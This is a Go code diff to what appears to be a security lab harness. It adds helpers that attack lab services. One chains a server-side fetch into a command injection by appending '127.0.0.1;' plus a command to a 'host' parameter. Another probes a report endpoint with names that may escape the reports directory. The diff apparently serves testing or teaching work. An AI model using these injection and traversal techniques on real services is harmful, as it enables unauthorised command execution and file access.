@@ -13,6 +13,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"net/url"
 	"os"
 	"path/filepath"
 	"time"
@@ -186,9 +187,22 @@ func (l *Lab) Fetch(ctx context.Context, address string) (answer string, err err
 	return l.outside.attack(ctx, AttackerAddress, l.url(API, "download"), "url", address)
 }
 
-// Health asks the service of Web whether it is well, as an ordinary client: no shell.
-func (l *Lab) Health(ctx context.Context) error {
-	_, err := l.outside.attack(ctx, AttackerAddress, l.url(Web, "health"), "host", "")
+// FetchCommand makes the service of API inject a command into the service of another
+// host, which sees the API as its client.
+func (l *Lab) FetchCommand(ctx context.Context, host, command string) (answer string, err error) {
+	l.labels.addCommand(command)
+	return l.Fetch(ctx, l.url(host, "lookup")+"?host="+url.QueryEscape("127.0.0.1;"+command))
+}
+
+// Report asks the service of Web or Second for a report, whose name may lead out of
+// the directory of the reports.
+func (l *Lab) Report(ctx context.Context, host, name string) (answer string, err error) {
+	return l.outside.attack(ctx, AttackerAddress, l.url(host, "report"), "name", name)
+}
+
+// Health asks the service of a host whether it is well, as an ordinary client: no shell.
+func (l *Lab) Health(ctx context.Context, host string) error {
+	_, err := l.outside.attack(ctx, AttackerAddress, l.url(host, "health"), "host", "")
 	return err
 }
 
